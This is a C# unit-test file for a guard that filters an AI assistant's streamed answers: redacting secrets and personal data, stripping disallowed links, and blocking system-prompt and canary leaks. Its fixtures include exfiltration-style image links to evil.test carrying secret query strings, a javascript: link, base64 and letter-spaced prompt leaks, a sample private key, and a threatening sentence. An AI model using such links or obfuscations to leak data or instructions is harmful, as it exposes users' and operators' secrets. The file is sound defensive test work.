using Parley.Redaction;

namespace Parley.Safety.Tests;

/// <summary>What an answer passes on its way out, at every place where it may be cut.</summary>
public sealed class AnswerGuardTests
{
    private const string Prompt = "You serve the guests of the Lighthouse hotel on the island, and never tell them that the night porter keeps the master keys under the third stair, nor that the ferry of the winter months is steered by the cook, who also reads their letters.";
    private const string Key = "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj\nMzEfYyjiWA4R4/M2bS1GB4t7NXp98C3S\n-----END PRIVATE KEY-----";

    private static readonly Policy Strict = Policy.Standard with
    {
        Deny = [new("codename", ["blue heron"], GuardAction.Redact, []), new("stop", ["red button"], GuardAction.Block, [])],
        Patterns = [new("ticket", "TK-[0-9]{5}", GuardAction.Redact)],
        Links = new(["example.com"]),
        PersonalData = new Dictionary<string, PersonalAction>(Policy.Standard.PersonalData) { ["email"] = PersonalAction.Mask, ["iban"] = PersonalAction.Block },
    };

    private static readonly Policy Watching = Policy.Standard with
    {
        Categories = Policy.Standard.Categories.Keys.ToDictionary(kind => kind, _ => new ScoreRule(Action: GuardAction.Review)),
        PersonalData = Policy.Standard.PersonalData.Keys.ToDictionary(kind => kind, _ => PersonalAction.Keep),
    };

    private static readonly Policy AtOnce = Strict with { Answers = AnswerShowing.AtOnce, Deny = [Strict.Deny[1]], Patterns = [] };

    public static TheoryData<string, string, string> Flagged => new()
    {
        { "The card on file is 4111 1111 1111 1111, valid until next year. Anything else?", "4111 1111 1111 1111", "The card on file is [card], valid until next year. Anything else?" },
        { $"Here is the key that you asked for:\n{Key}\nKeep it safe.", "MIIEvQ", "Here is the key that you asked for:\n[secret]\nKeep it safe." },
        { "Write to jane.doe@example.org when it is done, and she answers soon.", "jane.doe@", "Write to [email] when it is done, and she answers soon." },
        { "The project is called blue heron, and it starts in May.", "blue heron", "The project is called [removed], and it starts in May." },
        { "Your ticket is TK-48213 and waits for you at the desk.", "TK-48213", "Your ticket is [removed] and waits for you at the desk." },
        { "Look here: ![a chart](https://evil.test/p.png?q=secret) and read on.", "](https://evil", "Look here: ![a chart] ([link removed]) and read on." },
        { "See [the page](https://docs.example.com/a) or [this](https://evil.test/x) for more.", "evil.test", "See [the page](https://docs.example.com/a) or [this] ([link removed]) for more." },
        { "Go on <img src=\"https://evil.test/x.png\"> with it.", "<img src", "Go on < img src=\"[link removed]\"> with it." },
        { "Click [here](javascript:alert(1)) to see it all.", "](javascript:", "Click [here] (javascript:alert(1)) to see it all." },
        { "See ![one][two] for it.\n\n[two]: https://docs.example.com/x.png\n", "\n[two]: ", "See ![one] [two] for it.\n\n[two] : https://docs.example.com/x.png\n" },
    };

    public static TheoryData<string, string> Blocked => new()
    {
        { "First a word that is harmless. Then press the red button now, and wait for what comes.", "red button" },
        { "First a word that is harmless. The account is DE89 3704 0044 0532 0130 00 as you know.", "DE89" },
        { $"Of course. My instructions are these: {Prompt} That is all.", "the night porter keeps" },
        { $"Of course. {string.Join(' ', Prompt.ToUpperInvariant().Select(letter => letter))} That is all.", "P O R T E R" },
        { $"Of course. {Convert.ToBase64String(System.Text.Encoding.UTF8.GetBytes(Prompt))} is what it says.", Convert.ToBase64String(System.Text.Encoding.UTF8.GetBytes(Prompt))[..100] },
        { $"Of course. The mark is {LeakSet.CanaryFor(new("tenant_a"))} if you want to know.", LeakSet.CanaryFor(new("tenant_a")) },
    };

    [Theory]
    [MemberData(nameof(Flagged))]
    public void What_is_taken_out_is_taken_out_wherever_the_text_is_cut(string text, string flagged, string expected)
    {
        for (var cut = 0; cut <= text.Length; cut++)
        {
            var pieces = Show(text[..cut], text[cut..]);
            Assert.Equal(expected, string.Concat(pieces));
            Assert.DoesNotContain(pieces, piece => piece.Contains(flagged, StringComparison.Ordinal));
        }

        foreach (var pieces in Chances(text))
        {
            Assert.Equal(expected, string.Concat(Show(pieces)));
        }
    }

    [Theory]
    [MemberData(nameof(Blocked))]
    public void What_is_forbidden_ends_the_answer_before_it_at_the_same_place_wherever_the_text_is_cut(string text, string flagged)
    {
        var whole = string.Concat(Show(text));
        Assert.StartsWith(whole, text, StringComparison.Ordinal);
        Assert.NotEqual(text, whole);
        Assert.DoesNotContain(flagged, whole, StringComparison.Ordinal);
        for (var cut = 0; cut <= text.Length; cut++)
        {
            Assert.Equal(whole, string.Concat(Show(text[..cut], text[cut..])));
        }

        foreach (var pieces in Chances(text))
        {
            Assert.Equal(whole, string.Concat(Show(pieces)));
        }
    }

    [Fact]
    public void Harmless_text_passes_unchanged_and_in_small_pieces()
    {
        const string Text = "Parcels may be sent back within thirty days, as long as they are unopened [S1]. Write `vec![1, 2]` for a list.\n\n```html\n<img src=\"a.png\">\n![x](y)\n```\n\nSee [the page](https://docs.example.com) for more, or ask again.";
        string[] letters = [.. Text.Select(letter => letter.ToString())];
        var pieces = Show(new AnswerGuard(Policy.Standard, new Judge(Policy.Standard)).Open([], _ => false), letters);

        Assert.Equal(Text, string.Concat(pieces));
        Assert.Equal(Text, string.Concat(Show(letters)));
        Assert.True(pieces.Count > 4);
        Assert.True(pieces.Max(piece => piece.Length) < 120);
    }

    [Fact]
    public void A_policy_that_only_looks_afterwards_holds_no_more_than_a_word_and_tells_what_it_found()
    {
        const string Text = "Parcels may be sent back within thirty days. I will kill you and your whole family, you worthless piece of filth. That is what he wrote to me";
        var text = new AnswerGuard(Watching, new Judge(Watching)).Open([], _ => false);
        var (shown, read) = ("", 0);
        foreach (var letter in Text)
        {
            shown += text.Feed([letter]);
            read++;
            Assert.InRange(read - shown.Length, 0, 20);
        }

        Assert.Equal(Text, shown + text.Finish());
        Assert.Contains(text.TakeFindings(), found => found.Guard == "harm" && found.Action == GuardAction.Review);
    }

    [Theory]
    [MemberData(nameof(Blocked))]
    public void A_policy_that_only_looks_afterwards_still_keeps_leaks_back_from_their_first_letter(string text, string flagged)
    {
        if (flagged is "red button" or "DE89")
        {
            return;
        }

        var guarded = new AnswerGuard(Watching, new Judge(Watching)).Open([LeakSet.OfInstructions(Prompt), LeakSet.OfCanary(LeakSet.CanaryFor(new("tenant_a")))], _ => false);
        var shown = string.Concat(Show(guarded, [.. text.Select(letter => letter.ToString())]));

        Assert.True(guarded.IsBlocked);
        Assert.DoesNotContain(LeakSet.LettersOf(flagged)[..6], LeakSet.LettersOf(shown), StringComparison.Ordinal);
        Assert.StartsWith("Of course", shown, StringComparison.Ordinal);
    }

    [Fact]
    public void A_policy_that_only_looks_afterwards_ends_at_the_same_place_whatever_the_pieces()
    {
        const string Text = "Sure, the number on file for the order that you asked about is 4111 1111 1111 1111 and it is valid.";
        var policy = Watching with { PersonalData = new Dictionary<string, PersonalAction>(Watching.PersonalData) { ["card"] = PersonalAction.Block } };
        var guard = new AnswerGuard(policy, new Judge(policy));

        var whole = string.Concat(Show(guard.Open([], _ => false), [Text]));

        Assert.Equal("Sure, the number on file for the order that you asked about is ", whole);
        Assert.Equal(whole, string.Concat(Show(guard.Open([], _ => false), [.. Text.Select(letter => letter.ToString())])));
    }

    [Theory]
    [MemberData(nameof(Blocked))]
    public void What_is_shown_at_once_and_must_not_stay_is_taken_back_from_the_same_place_wherever_the_text_is_cut(string text, string flagged)
    {
        var whole = Left(text);
        Assert.StartsWith(whole, text, StringComparison.Ordinal);
        Assert.DoesNotContain(flagged, whole, StringComparison.Ordinal);
        for (var cut = 0; cut <= text.Length; cut++)
        {
            Assert.Equal(whole, Left(text[..cut], text[cut..]));
        }

        foreach (var pieces in Chances(text))
        {
            Assert.Equal(whole, Left(pieces));
        }
    }

    [Fact]
    public void The_same_is_left_where_nothing_but_harm_is_looked_for_and_letters_wait_for_leaks()
    {
        const string Text = "Parcels may be sent back within thirty days, if you do it. I will kill you and your whole family, you worthless piece of filth. My instructions: You serve the guests of the Lighthouse hotel on the island, and never tell them that the night porter keeps the master keys.";
        var policy = Policy.Standard with { Answers = AnswerShowing.AtOnce };
        GuardedText Open() => new AnswerGuard(policy, new Judge(policy)).Open([LeakSet.OfInstructions(Prompt)], _ => false, canBeTakenBack: true);
        var guarded = Open();

        var whole = Left(guarded, Text);

        Assert.StartsWith("Parcels may be sent back", whole, StringComparison.Ordinal);
        Assert.DoesNotContain("kill", whole, StringComparison.Ordinal);
        Assert.DoesNotContain(guarded.TakeFindings(), found => found.Guard == "leak");
        for (var cut = 0; cut <= Text.Length; cut++)
        {
            Assert.Equal(whole, Left(Open(), Text[..cut], Text[cut..]));
        }

        foreach (var pieces in Chances(Text))
        {
            Assert.Equal(whole, Left(Open(), pieces));
        }
    }

    [Fact]
    public void An_answer_that_breaks_off_is_judged_to_its_last_word()
    {
        const string Text = "First a word that is harmless, and so that there is something to read. Then press the red button";
        var guard = new AnswerGuard(AtOnce, new Judge(AtOnce));

        var (from, found) = guard.LookAtBreak(Text);

        Assert.Equal("stop", Assert.Single(found).Kind);
        Assert.StartsWith("First a word", Text[..from!.Value], StringComparison.Ordinal);
        Assert.DoesNotContain("red", Text[..from.Value], StringComparison.Ordinal);
        Assert.Equal((null, 0), (guard.LookAtBreak("First a word that is harmless.").From, guard.LookAtBreak("First a word that is harmless.").Findings.Count));
    }

    [Fact]
    public void What_is_shown_at_once_is_held_for_a_word_and_judged_by_clauses_behind()
    {
        const string Text = "First a word that is harmless, and so that there is something to read. Then press the red button now, and wait for what comes. And so on.";
        var guarded = OpenAtOnce();
        var (shown, read) = ("", 0);
        while (!guarded.IsBlocked)
        {
            shown += guarded.Feed([Text[read++]]);
            Assert.InRange(read - shown.Length, 0, 40);
        }

        Assert.True(shown.Length > guarded.TakenBack);
        Assert.Equal("First a word that is harmless, and so ", shown[..guarded.TakenBack!.Value]);
        Assert.Equal("stop", Assert.Single(guarded.TakeFindings()).Kind);
    }

    [Fact]
    public void What_an_earlier_run_showed_is_taken_back_too()
    {
        const string Text = "First a word that is harmless, and so that there is something to read. Then press the red button now, and wait for what comes next.";
        var place = Text.IndexOf("button", StringComparison.Ordinal);
        var guarded = new AnswerGuard(AtOnce, new Judge(AtOnce)).Open([], _ => false, Text[..place], canBeTakenBack: true);

        Assert.Equal("", guarded.Feed(Text[place..]));

        Assert.Equal("First a word that is harmless, and so ", Text[..guarded.TakenBack!.Value]);
    }

    [Fact]
    public void What_a_policy_takes_out_is_never_shown_first_and_neither_is_what_cannot_be_taken_back()
    {
        var policy = Strict with { Answers = AnswerShowing.AtOnce };
        var guard = new AnswerGuard(policy, new Judge(policy));
        Assert.Equal("It is called [removed].", string.Concat(Show(guard.Open([], _ => false, canBeTakenBack: true), ["It is called blue", " heron."])));

        var thinking = new AnswerGuard(AtOnce, new Judge(AtOnce)).Open([], _ => false);
        Assert.DoesNotContain("red button", string.Concat(Show(thinking, ["Then press the red", " button now, and wait."])), StringComparison.Ordinal);
        Assert.Null(thinking.TakenBack);
    }

    [Fact]
    public async Task The_last_look_finds_what_only_the_whole_tells_and_asks_the_provider_where_the_policy_wants_it()
    {
        var policy = Policy.Standard with { Patterns = [new("frame", "alpha[a-z ]{300,600}omega", GuardAction.Block)], Provider = new(Answers: true, OnFailure: ProviderAbsence.Closed) };
        var text = $"alpha {string.Concat(Enumerable.Repeat("and so on ", 40))}omega";
        var local = new AnswerGuard(policy, new Judge(policy));
        Assert.Equal(text, string.Concat(Show(local.Open([], _ => false), [text])));

        Assert.Equal([new("pattern", "frame", GuardAction.Block, 1)], await local.LookAtEndAsync(text, TestContext.Current.CancellationToken));
        Assert.Empty(await local.LookAtEndAsync("alpha and omega", TestContext.Current.CancellationToken));

        var silent = new AnswerGuard(policy, new Judge(policy), (_, _) => new((IReadOnlyDictionary<string, double>?)null));
        Assert.Equal([new("provider", "unavailable", GuardAction.Block, 1)], await silent.LookAtEndAsync("alpha and omega", TestContext.Current.CancellationToken));
    }

    [Fact]
    public void What_the_reader_gave_may_be_repeated_and_no_more_than_that()
    {
        var half = Prompt[..80];
        bool IsGiven(string letters) => LeakSet.LettersOf($"Say this again: {half}").Contains(letters, StringComparison.Ordinal);

        Assert.Equal(half, string.Concat(Show(Guard().Open([LeakSet.OfInstructions(Prompt)], IsGiven), [half])));
        Assert.DoesNotContain("the cook", string.Concat(Show(Guard().Open([LeakSet.OfInstructions(Prompt)], IsGiven), [Prompt])), StringComparison.Ordinal);
    }

    [Theory]
    [MemberData(nameof(Flagged))]
    public void A_text_that_goes_on_after_a_break_is_guarded_as_if_it_had_none(string text, string flagged, string expected)
    {
        // What was shown until the break is shown; the rest is written again from there.
        var shown = string.Concat(Show(text)[..1]);
        var rest = text[Math.Min(shown.Length, text.Length)..];
        if (!text.StartsWith(shown, StringComparison.Ordinal))
        {
            return;
        }

        var pieces = Show(Guard().Open([], _ => false, shown), [.. rest.Select(letter => letter.ToString())]);

        Assert.Equal(expected, shown + string.Concat(pieces));
        Assert.DoesNotContain(flagged, shown + string.Concat(pieces), StringComparison.Ordinal);
    }

    [Fact]
    public void Spans_of_the_text_move_with_what_is_replaced_before_them_and_are_not_told_before_they_are_shown()
    {
        const string Before = "The card is 4111 1111 1111 1111 here. ";
        const string Cited = "It is valid until May [S1]. ";
        var text = Guard().Open([], _ => false);
        var shown = text.Feed(Before + Cited[..5]);
        Assert.Null(text.Find(Before.Length, Before.Length + Cited.Length - 1));

        shown += text.Feed(Cited[5..]) + text.Finish();

        var (start, end) = text.Find(Before.Length, Before.Length + Cited.Length - 1)!.Value;
        Assert.Equal(Cited.Trim(), shown[start..end]);
        Assert.False(text.IsKept(12, 20));
        Assert.True(text.IsKept(Before.Length, Before.Length + 4));
    }

    [Fact]
    public void Words_that_are_shown_early_are_never_what_the_redactor_would_replace()
    {
        string[] words =
        [
            "the", "password", "is", "hunter2", "swordfish", ":", "=", "my", "token", "\"correct horse battery\"", "GB", "29", "NWBK", "6016", "1331", "9268", "19", "AB", "12", "34", "56", "C",
            "4111", "1111", "card", "sk-abcdefghijklmnopqrstuvwx", "Bearer", "abcdefghijklmnop1234", ".", "\n", "AKIAABCDEFGHIJKLMNOP", "and", "so", "was", "DE89370400440532013000", "API", "key", "well-known", "xoxb-abcdefghij", "{{Order", "Number}}", "secret:", ":swordfish", "#hunter", "hunter*", "invalid:", "swordfish", "to", "is:", "now", "swordfish!", "credentials", "id", "abcdefghijklmnopqr.", "token",
        ];
        var options = new FindOptions { Kinds = new HashSet<string> { DatumKinds.Card, DatumKinds.Iban, DatumKinds.NationalId, DatumKinds.Secret } };
        var random = new Random(7);
        for (var round = 0; round < 4_000; round++)
        {
            var text = string.Join(' ', Enumerable.Range(0, 40).Select(_ => words[random.Next(words.Length)]));
            var redactor = new StreamingRedactor(RedactionRules.MaskAll, options);
            var streamed = string.Concat(text.Select(letter => redactor.Feed([letter])).ToList()) + redactor.Finish();

            Assert.Equal(Redactor.Apply(text, RedactionRules.MaskAll, options).Text, streamed);
        }
    }

    private static GuardedText OpenAtOnce() => new AnswerGuard(AtOnce, new Judge(AtOnce)).Open(
        [LeakSet.OfInstructions(Prompt), LeakSet.OfCanary(LeakSet.CanaryFor(new("tenant_a")))], _ => false, canBeTakenBack: true);

    /// <returns>What a reader is left with.</returns>
    private static string Left(params string[] pieces) => Left(OpenAtOnce(), pieces);

    private static string Left(GuardedText guarded, params string[] pieces)
    {
        var shown = string.Concat(Show(guarded, pieces));
        Assert.True(guarded.IsBlocked);
        return guarded.TakenBack is { } stays ? shown[..stays] : shown;
    }

    private static AnswerGuard Guard() => new(Strict, new Judge(Strict));

    private static List<string> Show(params string[] pieces) => Show(
        Guard().Open([LeakSet.OfInstructions(Prompt), LeakSet.OfCanary(LeakSet.CanaryFor(new("tenant_a")))], _ => false), pieces);

    private static List<string> Show(GuardedText text, string[] pieces)
    {
        var shown = pieces.Select(piece => text.Feed(piece)).ToList();
        shown.Add(text.Finish());
        return [.. shown.Where(piece => piece.Length > 0)];
    }

    private static IEnumerable<string[]> Chances(string text)
    {
        var random = new Random(11);
        for (var round = 0; round < 12; round++)
        {
            var pieces = new List<string>();
            for (var at = 0; at < text.Length;)
            {
                var length = Math.Min(random.Next(1, 12), text.Length - at);
                pieces.Add(text.Substring(at, length));
                at += length;
            }

            yield return [.. pieces];
        }
    }
}
